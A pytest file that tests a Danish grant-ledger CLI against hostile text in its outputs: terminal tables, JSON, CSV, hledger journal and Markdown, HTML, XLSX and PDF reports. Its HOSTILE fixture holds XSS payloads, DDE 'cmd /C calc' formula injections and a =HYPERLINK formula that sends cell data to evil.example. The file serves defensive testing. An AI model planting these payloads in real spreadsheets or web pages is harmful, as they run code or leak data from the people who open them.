"""Hostile names: texts from the ledger appear safely in every output.

A ledger is recorded through the command line in which every free text a
user types holds one hostile text: recipients, purposes and decision
references of grants, payment references, reasons for returns and
reallocations, the actor who recorded a return; and a second plan (another
partnership, the same year) whose title, pool name and every line name are
hostile too. The hostile texts: HTML and script, spreadsheet formula prefixes
(`=HYPERLINK(...)`, `+`, `-`, `@`), right-to-left marks, overrides and
isolates (one left open), 10,000 characters, every kind of line break
(LF, CRLF, CR, U+2028, U+2029, NEL) and Markdown's own syntax.

A twin ledger is recorded by the same commands with harmless texts, so a
terminal table can be held to the shape it must have: the same number of
lines, row for row. What must hold:

- terminal tables (`status`, `pool show`, `audit`, `replay`, `plan show`):
  each row one line, no control, format (bidi) or line-separator character;
- JSON (every reading command and the ultimo report): every text exactly as
  recorded;
- CSV (`audit --format csv`, `export --format csv`): one row per event, every
  text cell that a spreadsheet would run as a formula begins with an
  apostrophe, every text intact after it;
- the hledger journal: hledger reads it, one transaction per journal entry;
- the ultimo report: Markdown and HTML escaped (no tag from the ledger, each
  grant one table row with all its cells), XLSX neutralised (no formula
  cell, text intact after the apostrophe), PDF renders.

Found bugs are strict xfails: the XLSX report cannot be written once any
recorded text holds a control character such as ESC (a colour code pasted
from a terminal), and the Markdown report lets a right-to-left override run
on past its cell.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from cli.main import main

ROOT = Path(__file__).resolve().parents[2]
PLAN_2022 = ROOT / "plans" / "tingbjerg-husum-2022.toml"
ENV = {"PULJE_DEBUG": None, "PULJE_DB": None, "PULJE_ACTOR": None}
AG = "arbejdsgruppen"
OEKF = "Økonomiforvaltningen"
PARTNERSHIP = "Tingbjerg-Husum"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE: dict[str, str] = {
    "html": '<script>alert("pulje")</script><img src=x onerror=alert(1)> & <b>fed</b> &amp; &#60;',
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1;"Klik her")',
    "plus": "+45 12 34 56 78",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rtl": "\u202eAtlasbyen\u202c og \u2067مركز الشباب\u2069 og \u200fslut\u200e",
    "rtl left open": "Beboerforening \u202eØst 05.000,00 kr",
    "10,000 characters": ("Tryghedsvandring i Gadelandet med politi og boligselskab. " * 200)[:9_999] + "!",
    "line breaks": "Første linje\nAnden linje\r\nTredje linje\rFjerde\u2028Femte\u2029Sjette\x85Syvende",
    "markdown": "a | b | `c` *d* _e_ [f](javascript:alert(1)) <!-- x --> \\| # ## --- ***",
}
NAMES = list(HOSTILE)
BIDI_OPEN = set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068")
BIDI_CLOSE = {"\u202c": set("\u202a\u202b\u202d\u202e"), "\u2069": set("\u2066\u2067\u2068")}
TEMPLATE_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "section",
    "div",
    "h1",
    "h2",
    "h3",
    "p",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
    "i",
    "code",
    "svg",
    "rect",
    "line",
    "polyline",
    "text",
}


def explain(result: Result) -> str:
    return (
        f"exit {result.exit_code}\n--- stdout\n{result.stdout[:3000]}\n--- stderr\n{result.stderr[:3000]}\n"
        f"--- exception {result.exception!r}"
    )


def stdout(result: Result) -> str:
    """What the command wrote, byte for byte (click's `Result.stdout` turns CRLF into LF)."""
    return result.stdout_bytes.decode("utf-8")


def harmless(texts: dict[str, str]) -> dict[str, str]:
    return {name: f"Tekst {i}" for i, name in enumerate(texts)}


def toml_string(value: str) -> str:
    """A TOML basic string holding exactly `value`."""
    out = []
    for ch in value:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ord(ch) < 0x20 or ord(ch) == 0x7F:
            out.append(f"\\u{ord(ch):04X}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def other_plan(partnership: str, title: str, pool_name: str, line_names: list[str]) -> str:
    """A second plan for 2022 whose names are the given texts; its pool HX is funded by line 1."""
    parts = [
        f"[plan]\npartnership = {toml_string(partnership)}\ntitle = {toml_string(title)}\nyear = 2022\n",
        '[authority]\nreallocation = "Økonomiforvaltningen"\n',
    ]
    for i, name in enumerate(line_names, start=1):
        parts.append(f'[[line]]\nno = "{i}"\nname = {toml_string(name)}\n[line.budget.2022]\ntotal = {1000 * i}\n')
    parts.append(
        f'[[pool]]\nid = "hostile-pulje"\ncode = "HX"\nname = {toml_string(pool_name)}\nline = "1"\n'
        'decided_by = "arbejdsgruppen"\n'
    )
    return "\n".join(parts)


class Cli:
    def __init__(self, db: Path, actor: str = "sekretariatet") -> None:
        self.db, self.actor = str(db), actor

    def __call__(self, *args: str, actor: str | None = None) -> Result:
        return CliRunner().invoke(main, ["--db", self.db, "--actor", actor or self.actor, *args], env=ENV)

    def ok(self, *args: str, actor: str | None = None) -> Result:
        result = self(*args, actor=actor)
        assert result.exit_code == 0, f"{args[:3]}\n{explain(result)}"
        return result

    def json(self, *args: str) -> Any:
        return json.loads(self.ok(*args, "--format", "json").stdout)


@dataclass
class Ledger:
    cli: Cli
    texts: dict[str, str]
    partnership: str
    folder: Path
    grants: dict[str, str]  # text name -> grant number

    def report(self, fmt: str, partnership: str | None = None, pool: str | None = None) -> Path:
        partnership = partnership or PARTNERSHIP
        out = self.folder / f"ultimo-{abs(hash((fmt, partnership, pool)))}.{fmt}"
        if not out.exists():
            self.cli.ok(
                "report",
                "ultimo",
                "--year",
                "2022",
                "--format",
                fmt,
                "--output",
                str(out),
                "--partnership",
                partnership,
                *(["--pool", pool] if pool else []),
            )
        return out


def record(folder: Path, texts: dict[str, str]) -> Ledger:
    """The 2022 plan, a grant per text (paid, partly returned), a reallocation per text, and a plan named by them."""
    folder.mkdir()
    cli = Cli(folder / "ledger.db")
    cli.ok("plan", "import", str(PLAN_2022))
    partnership = "Husum " + texts["html"][:40].strip()
    plan = folder / "other-plan.toml"
    plan.write_text(other_plan(partnership, texts["hyperlink"], texts["html"], list(texts.values())), encoding="utf-8")
    cli.ok("plan", "import", str(plan))
    grants = {}
    for name, text in texts.items():
        awarded = json.loads(
            cli.ok(
                "grant",
                "award",
                "--pool",
                "BTP",
                "--year",
                "2022",
                "--partnership",
                PARTNERSHIP,
                "--recipient",
                text,
                "--purpose",
                text,
                "--amount",
                "1.000",
                "--date",
                "2022-03-01",
                "--decided-by",
                AG,
                "--decision-ref",
                text,
                "--format",
                "json",
            ).stdout
        )
        grants[name] = awarded["grant"]
        cli.ok("grant", "disburse", awarded["grant"], "--amount", "500", "--date", "2022-03-02", "--payment-ref", text)
        cli.ok(
            "grant", "return", awarded["grant"], "--amount", "100", "--date", "2022-03-03", "--reason", text, actor=text
        )
        cli.ok(
            "reallocate",
            "--year",
            "2022",
            "--partnership",
            PARTNERSHIP,
            "--from",
            "12",
            "--to",
            "13",
            "--amount",
            "100",
            "--date",
            "2022-04-01",
            "--decided-by",
            OEKF,
            "--decision-ref",
            text,
            "--reason",
            text,
        )
    awarded = json.loads(
        cli.ok(
            "grant",
            "award",
            "--pool",
            "HX",
            "--year",
            "2022",
            "--partnership",
            partnership,
            "--recipient",
            texts["minus"],
            "--purpose",
            texts["rtl left open"],
            "--amount",
            "100",
            "--date",
            "2022-05-01",
            "--decided-by",
            AG,
            "--decision-ref",
            texts["at"],
            "--format",
            "json",
        ).stdout
    )
    grants["in the other plan"] = awarded["grant"]
    return Ledger(cli, texts, partnership, folder, grants)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Ledger:
    return record(tmp_path_factory.mktemp("names") / "hostile", HOSTILE)


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> Ledger:
    return record(tmp_path_factory.mktemp("names") / "benign", harmless(HOSTILE))


def stored(text: str) -> str:
    """What the ledger keeps of a typed text: the text without the spaces around it."""
    return text.strip()


def strings_in(data: Any) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield key
            yield from strings_in(value)
    elif isinstance(data, list):
        for value in data:
            yield from strings_in(value)


# ---------------------------------------------------------------------- terminal tables


def tables(ledger: Ledger) -> dict[str, str]:
    cli, other = ledger.cli, ledger.partnership
    outputs = {
        "status": cli.ok("status"),
        "status --lang en": cli.ok("status", "--lang", "en"),
        "pool show BTP": cli.ok("pool", "show", "BTP", "--year", "2022", "--partnership", PARTNERSHIP),
        "pool show HX": cli.ok("pool", "show", "HX", "--year", "2022", "--partnership", other),
        "pool show BTP --as-of": cli.ok(
            "pool", "show", "BTP", "--year", "2022", "--partnership", PARTNERSHIP, "--as-of", "2022-12-31"
        ),
        "audit": cli.ok("audit"),
        "audit --lang en": cli.ok("audit", "--lang", "en"),
        "replay BTP": cli.ok("replay", "--pool", "BTP", "--year", "2022", "--partnership", PARTNERSHIP),
        "plan show": cli.ok("plan", "show", "--year", "2022", "--partnership", other),
    }
    return {name: stdout(result) for name, result in outputs.items()}


ROW_KEY = re.compile(r"[0-9]+|[A-Z]+-2022-[0-9]{3}|-+|Hoved:|Head:")


def unsafe_characters(text: str) -> list[str]:
    """Characters a one-line table cell must not hold: controls, bidi and other format characters, line separators."""
    return sorted(
        {f"U+{ord(ch):04X}" for ch in text if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")}
    )


def test_every_terminal_table_keeps_each_row_on_one_line_without_control_or_bidi_characters(
    hostile: Ledger, benign: Ledger, capsys: pytest.CaptureFixture[str]
) -> None:
    mine, twin = tables(hostile), tables(benign)
    rows = 0

    for name, text in mine.items():
        assert unsafe_characters(text) == [], name
        lines, twin_lines = text.splitlines(), twin[name].splitlines()
        assert len(lines) == len(twin_lines), f"{name}: {len(lines)} lines, the harmless twin has {len(twin_lines)}"
        for i, (line, other) in enumerate(zip(lines, twin_lines, strict=True)):
            key, mine_key = other.split()[:1], line.split()[:1]
            if key and ROW_KEY.fullmatch(key[0]):  # a row's number, a grant number, a rule under the headers
                same = mine_key == key or (set(key[0]) == {"-"} and mine_key and set(mine_key[0]) == {"-"})
                assert same, f"{name}, line {i + 1}: {line[:120]!r}"
        rows += len(lines)
    for number in hostile.grants.values():
        shown = [
            line for line in mine["pool show BTP"].splitlines() + mine["pool show HX"].splitlines() if number in line
        ]
        assert len(shown) == 1, number
    assert "Første linje Anden linje Tredje linje Fjerde" in mine["pool show BTP"]  # cells are cut at 48
    with capsys.disabled():
        print(
            f"\n[figure] hostile names: {len(mine)} terminal tables, {rows} lines, each the twin's line count; "
            f"0 control, bidi or line-separator characters"
        )


# ---------------------------------------------------------------------- JSON


def test_json_keeps_every_text_exactly_as_recorded(hostile: Ledger) -> None:
    cli, other = hostile.cli, hostile.partnership
    texts = {stored(t) for t in HOSTILE.values()}
    outputs = {
        "pool show BTP": cli.json("pool", "show", "BTP", "--year", "2022", "--partnership", PARTNERSHIP),
        "audit": cli.json("audit"),
        "replay BTP": cli.json("replay", "--pool", "BTP", "--year", "2022", "--partnership", PARTNERSHIP),
        "status": cli.json("status"),
        "plan show": cli.json("plan", "show", "--year", "2022", "--partnership", other),
        "report": json.loads(hostile.report("json").read_text(encoding="utf-8")),
    }

    for name, data in outputs.items():
        found = set(strings_in(data))
        if name in ("status", "plan show"):
            assert texts <= found, f"{name} lacks {texts - found}"
            continue
        assert texts <= found, f"{name} lacks {[t[:30] for t in texts - found]}"

    grants = {g["grant"]: g for g in outputs["pool show BTP"]["grants"]}
    for name, number in hostile.grants.items():
        if name in HOSTILE:
            text = stored(HOSTILE[name])
            assert (grants[number]["recipient"], grants[number]["purpose"], grants[number]["decision_ref"]) == (
                text,
                text,
                text,
            )
    returns = {e["grant"]: e for e in outputs["audit"]["events"] if e["kind"] == "grant_returned"}
    for name, number in hostile.grants.items():
        if name in HOSTILE:
            assert (returns[number]["reason"], returns[number]["actor"]) == (stored(HOSTILE[name]), HOSTILE[name])


# ---------------------------------------------------------------------- CSV


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "command", [("audit", "--format", "csv"), ("export", "--format", "csv")], ids=["audit", "export"]
)
def test_csv_has_one_row_per_event_and_neutralises_every_formula_cell(
    hostile: Ledger, command: tuple[str, ...]
) -> None:
    events = hostile.cli.json("audit")["events"]

    rows = csv_rows(stdout(hostile.cli.ok(*command)))

    header, body = rows[0], rows[1:]
    assert len(body) == len(events)
    assert all(len(row) == len(header) for row in body)
    assert [int(row[header.index("sequence")]) for row in body] == [e["sequence"] for e in events]
    for row in body:
        for column, cell in zip(header, row, strict=True):
            if column == "amount_ore" and re.fullmatch(r"-?[0-9]+", cell):
                continue
            assert not cell.startswith(FORMULA_STARTS), (column, cell[:60])
    by_sequence = {int(row[header.index("sequence")]): dict(zip(header, row, strict=True)) for row in body}
    for event in events:
        row = by_sequence[event["sequence"]]
        for column in ("decision_ref", "reason", "actor"):
            value = event[column] or ""
            expected = "'" + value if value.startswith(FORMULA_STARTS) else value
            assert row[column] == expected, (event["sequence"], column)


# ---------------------------------------------------------------------- the hledger journal


def hledger() -> str:
    found = shutil.which("hledger")
    if found is None:
        if os.environ.get("CI"):
            pytest.fail("hledger is not installed, and CI is set: .ci/run installs it")
        pytest.skip("hledger is not installed (Debian: apt-get install hledger); .ci/run installs it")
    return found


def test_hledger_reads_the_journal_with_one_transaction_per_entry(hostile: Ledger, tmp_path: Path) -> None:
    program = hledger()
    journal = tmp_path / "ledger.journal"
    hostile.cli.ok("export", "--format", "journal", "--output", str(journal))
    entries = [
        line
        for line in journal.read_text(encoding="utf-8").splitlines()
        if re.match(r"[0-9]{4}-[0-9]{2}-[0-9]{2} ", line)
    ]

    printed = subprocess.run([program, "-f", str(journal), "print"], capture_output=True, text=True, timeout=120)
    balance = subprocess.run(
        [program, "-f", str(journal), "bal", "--flat", "-N"], capture_output=True, text=True, timeout=120
    )

    assert printed.returncode == 0, printed.stderr
    assert balance.returncode == 0, balance.stderr
    transactions = [line for line in printed.stdout.splitlines() if re.match(r"[0-9]{4}-[0-9]{2}-[0-9]{2} ", line)]
    assert len(transactions) == len(entries) > len(HOSTILE) * 3
    for number in hostile.grants.values():
        assert f":bevilget:{number}" in balance.stdout or f":bevilget:{number}" in printed.stdout


# ---------------------------------------------------------------------- the ultimo report: Markdown


def md_cells(row: str) -> list[str]:
    """The cells of one Markdown table row, split at pipes that are not escaped."""
    return [cell.strip() for cell in re.split(r"(?<!\\)\|", row)[1:-1]]


@pytest.mark.parametrize("partnership", ["main", "other"])
def test_the_markdown_report_escapes_every_text_and_keeps_each_grant_one_row(hostile: Ledger, partnership: str) -> None:
    which = PARTNERSHIP if partnership == "main" else hostile.partnership
    md = hostile.report("md", which).read_text(encoding="utf-8")
    lines = md.split("\n")  # Markdown's line ends (CommonMark: LF, CR, CRLF; not NEL or U+2028)

    assert [f"U+{ord(ch):04X}" for ch in md if (ord(ch) < 0x20 and ch != "\n") or ch in "\x7f\u2028\u2029"] == []
    for tag in ("<script", "<img", "<b>", "<!--"):
        assert tag not in md, tag
    grant_rows = [line for line in lines if re.match(r"\| [A-Z]+-2022-[0-9]{3} \|", line)]
    numbers = [n for n in hostile.grants.values() if n.startswith("BTP" if partnership == "main" else "HX")]
    assert sorted(md_cells(row)[0] for row in grant_rows) == sorted(numbers)
    assert {len(md_cells(row)) for row in grant_rows} == {13}
    for line in lines:
        assert not line.startswith(("Anden linje", "Tredje linje", "Fjerde", "Femte", "Sjette", "Syvende")), line


def test_the_markdown_report_leaves_no_bidi_control_open_past_its_cell(hostile: Ledger) -> None:
    md = hostile.report("md").read_text(encoding="utf-8")
    unbalanced = []

    for row in (line for line in md.split("\n") if line.startswith("|")):
        for cell in md_cells(row):
            stack: list[str] = []
            for ch in cell:
                if ch in BIDI_OPEN:
                    stack.append(ch)
                elif ch in BIDI_CLOSE and stack and stack[-1] in BIDI_CLOSE[ch]:
                    stack.pop()
            if stack:
                unbalanced.append(cell[:40])

    assert unbalanced == []


# ---------------------------------------------------------------------- the ultimo report: HTML


class Page(HTMLParser):
    """Every tag, and the text of every table row (one list of cells per row)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.rows: list[list[str]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.add(tag)
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


@pytest.mark.parametrize("partnership", ["main", "other"])
def test_the_html_report_escapes_every_text_and_keeps_each_grant_one_row(hostile: Ledger, partnership: str) -> None:
    which = PARTNERSHIP if partnership == "main" else hostile.partnership
    page = Page()
    page.feed(hostile.report("html", which).read_text(encoding="utf-8"))

    assert page.tags <= TEMPLATE_TAGS, page.tags - TEMPLATE_TAGS
    grant_rows = [row for row in page.rows if row and re.fullmatch(r"[A-Z]+-2022-[0-9]{3}", row[0])]
    numbers = [n for n in hostile.grants.values() if n.startswith("BTP" if partnership == "main" else "HX")]
    assert sorted(row[0] for row in grant_rows) == sorted(numbers)
    assert {len(row) for row in grant_rows} == {13}
    if partnership == "main":
        cells = {cell for row in grant_rows for cell in row}
        for text in HOSTILE.values():
            assert stored(text).replace("\r\n", "\n").replace("\r", "\n") in {
                c.replace("\r\n", "\n").replace("\r", "\n") for c in cells
            }


# ---------------------------------------------------------------------- the ultimo report: XLSX and PDF


def neutralised(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def xml_text(text: str) -> str:
    """What XML keeps of a text: line ends as LF (XML 1.0, 2.11)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_the_xlsx_report_has_no_formula_cell_and_every_text_intact_after_the_apostrophe(hostile: Ledger) -> None:
    from openpyxl import load_workbook

    book = load_workbook(hostile.report("xlsx"))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]

    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value[:40] for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)] == []
    grants = book["Bevillinger BTP"]
    header = [c.value for c in grants[1]]
    rows = {row[0]: dict(zip(header, row, strict=True)) for row in grants.iter_rows(min_row=2, values_only=True)}
    for name, number in hostile.grants.items():
        if name in HOSTILE:
            expected = xml_text(neutralised(stored(HOSTILE[name])))
            shown = (rows[number]["Modtager"], rows[number]["Formål"], rows[number]["Reference"])
            assert shown == (expected,) * 3, name


def test_the_pdf_report_renders_every_grant(hostile: Ledger, capsys: pytest.CaptureFixture[str]) -> None:
    from pypdf import PdfReader

    reader = PdfReader(hostile.report("pdf"))
    # the embedded font's text map gives some runs as UTF-16 with NUL bytes between the letters
    text = "\n".join(page.extract_text() for page in reader.pages).replace("\x00", "")

    assert len(reader.pages) >= 1
    for number in hostile.grants.values():
        if number.startswith("BTP"):
            assert number in text, number
    with capsys.disabled():
        print(
            f"\n[figure] hostile names: the PDF report of {len(HOSTILE)} hostile grants renders as "
            f"{len(reader.pages)} pages"
        )


# ---------------------------------------------------------------------- control characters


CONTROL = "Rød\x1b[31m farve\x1b[0m og klokke\x07 og NUL\x00 og VT\x0b slut"


@pytest.fixture(scope="module")
def controlled(tmp_path_factory: pytest.TempPathFactory) -> Cli:
    """A ledger whose one grant's recipient holds terminal escapes, a bell, a NUL and a vertical tab."""
    cli = Cli(tmp_path_factory.mktemp("control") / "ledger.db")
    cli.ok("plan", "import", str(PLAN_2022))
    cli.ok(
        "grant",
        "award",
        "--pool",
        "BTP",
        "--year",
        "2022",
        "--recipient",
        CONTROL,
        "--purpose",
        CONTROL,
        "--amount",
        "1.000",
        "--date",
        "2022-03-01",
        "--decided-by",
        AG,
        "--decision-ref",
        CONTROL,
    )
    return cli


def test_control_characters_never_reach_a_terminal_table_and_stay_intact_in_json(controlled: Cli) -> None:
    for args in (
        ("status",),
        ("pool", "show", "BTP", "--year", "2022"),
        ("audit",),
        ("replay", "--pool", "BTP", "--year", "2022"),
    ):
        assert unsafe_characters(stdout(controlled.ok(*args))) == [], args
    grants = controlled.json("pool", "show", "BTP", "--year", "2022")["grants"]
    assert grants[0]["recipient"] == CONTROL


@pytest.mark.parametrize("fmt", ["md", "html", "json", "pdf"])
def test_a_report_of_a_ledger_with_control_characters_is_written(controlled: Cli, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"ultimo.{fmt}"

    controlled.ok("report", "ultimo", "--year", "2022", "--format", fmt, "--output", str(out))

    assert out.stat().st_size > 0
    if fmt == "md":
        assert "\x1b" not in out.read_text(encoding="utf-8")


def test_the_xlsx_report_of_a_ledger_with_control_characters_is_written(controlled: Cli, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "ultimo.xlsx"

    result = controlled("report", "ultimo", "--year", "2022", "--format", "xlsx", "--output", str(out))

    assert result.exit_code == 0, explain(result)
    values = [c.value for sheet in load_workbook(out).worksheets for row in sheet.iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("Rød") for v in values)
